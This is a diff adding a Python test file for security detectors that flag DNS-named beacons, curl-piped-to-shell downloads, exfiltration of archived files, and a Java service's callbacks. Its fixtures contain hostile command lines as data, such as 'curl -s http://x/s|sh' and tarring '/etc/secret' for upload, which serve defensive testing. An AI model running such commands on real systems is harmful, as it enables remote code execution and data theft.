@@ -1,0 +1,101 @@
+"""The endpoint helpers on a few rows of plain polars data: names from DNS answers, beacons,
+``fetch | sh`` pipes, exfiltration by a file the line wrote, a service's callbacks."""
+
+from __future__ import annotations
+
+import polars as pl
+
+from kernelsec_nb.findings import _endpoints as X
+from kernelsec_nb.findings import graph as G
+
+S = 1_000_000_000
+MS = 1_000_000
+
+
+def _answers():
+    f = pl.DataFrame({
+        "time_ns": [1 * S, 2 * S, 3 * S, 9 * S],
+        "src_namespace": ["a", "kube-system", "kube-system", "kube-system"],
+        "src_pod": ["web", "dns-0", "dns-0", "dns-0"],
+        "dst_namespace": ["kube-system", "a", "b", "a"],
+        "dst_pod": ["dns-0", "web", "job", "web"],
+        "dns_query": ["old.example.", "old.example.", "other.example.", "new.example."],
+        "dns_ips": [None, ["6.6.6.6"], ["6.6.6.6"], ["6.6.6.6"]],
+        "is_reply": [False, True, True, True]})
+    return X.dns_answers(f)
+
+
+def test_an_address_is_named_by_its_pods_latest_answer_before_the_connection():
+    a = _answers()
+    assert X.name_for(a, "a", "web", "6.6.6.6", 5 * S) == "old.example"  # not the later answer
+    assert X.name_for(a, "a", "web", "6.6.6.6", 10 * S) == "new.example"
+    assert X.name_for(a, "c", "other", "6.6.6.6", 1 * S) == "new.example"  # no answer of its own: any pod's
+    assert X.name_for(a, "a", "web", "7.7.7.7", 5 * S) is None
+
+
+def test_no_dns_columns_no_answers():
+    assert X.dns_answers(pl.DataFrame({"time_ns": [1], "dst_ip": ["6.6.6.6"]})).height == 0
+
+
+def _flows(times, flags):
+    n = len(times)
+    return pl.DataFrame({"exec_id": ["sh"] * n, "dst_ip": ["6.6.6.6"] * n, "dst_port": [443] * n,
+                         "time_ns": times, "tcp_flags": flags, "is_reply": [False] * n})
+
+
+def test_a_line_calling_one_address_again_and_again_is_a_beacon():
+    f = _flows([0, 300 * MS, 20 * S, 20 * S + 300 * MS, 40 * S, 40 * S + 200 * MS],
+               ["SYN", "ACK,FIN", "SYN", "ACK,FIN", "SYN", "ACK,FIN"])
+    assert X.beacon(f, ["sh"], "6.6.6.6", 443, 3, 5 * S)
+    assert not X.beacon(f, ["other"], "6.6.6.6", 443, 3, 5 * S)
+    # one download: its packets are one connection, however many flows
+    one = _flows([0, 1 * MS, 2 * MS, 300 * MS], ["SYN", "ACK", "ACK,PSH", "ACK,FIN"])
+    assert not X.beacon(one, ["sh"], "6.6.6.6", 443, 3, 5 * S)
+
+
+def _info(rows):
+    return {r[0]: {"parent_exec_id": r[1], "binary": r[2], "args": r[3], "start_ns": r[4]} for r in rows}
+
+
+def test_a_fetcher_feeding_a_sibling_interpreter_is_a_download():
+    info = _info([("top", None, "/bin/sh", "-c curl -s http://x/s|sh", 0),
+                  ("curl", "top", "/usr/bin/curl", "-s http://x/s", 2 * MS),
+                  ("sh", "top", "/bin/sh", None, 3 * MS)])
+    assert X.fetch_pipe("curl", list(info), info, 2 * S)
+    # the same fetch into a filter, or a shell given a script, or far apart in time: no pipe into a shell
+    info["sh"]["binary"] = "/usr/bin/jq"
+    assert not X.fetch_pipe("curl", list(info), info, 2 * S)
+    info["sh"].update(binary="/bin/sh", args="/opt/run.sh")
+    assert not X.fetch_pipe("curl", list(info), info, 2 * S)
+    info["sh"].update(args=None, start_ns=60 * S)
+    assert not X.fetch_pipe("curl", list(info), info, 2 * S)
+
+
+def _edges(rows):
+    return pl.DataFrame([dict(zip(G.EDGE_SCHEMA, r, strict=True)) for r in rows], schema=G.EDGE_SCHEMA)
+
+
+def test_a_process_sending_out_a_file_its_line_wrote_is_exfiltration():
+    info = _info([("sh", None, "/bin/sh", "-c …", 0),
+                  ("tar", "sh", "/bin/tar", "czf /tmp/c.tgz /etc/secret", 1 * MS),
+                  ("up", "sh", "/usr/bin/up", "cp /tmp/c.tgz s3://b/", 30 * MS),
+                  ("up2", "sh", "/usr/bin/up", "cp /srv/media.mp4 s3://b/", 40 * MS)])
+    e = _edges([("proc:tar", "file:m/web:/tmp/c.tgz", G.WRITE, 2 * MS, "wrote /tmp/c.tgz", None),
+                ("proc:up", "ext:52.0.0.1:443", G.CONNECT, 35 * MS, "", None),
+                ("proc:up2", "ext:52.0.0.1:443", G.CONNECT, 45 * MS, "", None)])
+    assert X.exfil_senders(list(info), info, e, G.WRITE, G.CONNECT) == {"up"}
+    # a file written on the host (node scope) is named by its path too
+    e2 = e.with_columns(pl.col("dst").str.replace("file:m/web:", "file:node:n1:"))
+    assert X.exfil_senders(list(info), info, e2, G.WRITE, G.CONNECT) == {"up"}
+    # a file written by a process outside the line does not count
+    assert X.exfil_senders(["sh", "up", "up2"], info, e, G.WRITE, G.CONNECT) == set()
+
+
+def test_a_services_new_destinations_just_before_the_entry_are_its_callback_and_download():
+    e = _edges([("proc:jvm", "ext:52.0.0.1:443", G.CONNECT, 1 * S, "", None),  # its usual, all day
+                ("proc:jvm", "ext:6.6.6.6:1389", G.CONNECT, 100 * S, "", None),
+                ("proc:jvm", "ext:6.6.6.6:8000", G.CONNECT, 100 * S + 60 * MS, "", None)])
+    got = X.service_callbacks("jvm", 100 * S + 300 * MS, e, 2 * S, G.CONNECT)
+    assert [(d, r) for d, _, r in got] == [("ext:6.6.6.6:1389", "callback"), ("ext:6.6.6.6:8000", "download")]
+    assert X.service_callbacks("jvm", 200 * S, e, 2 * S, G.CONNECT) == []
+    assert X.service_callbacks(None, 200 * S, e, 2 * S, G.CONNECT) == []
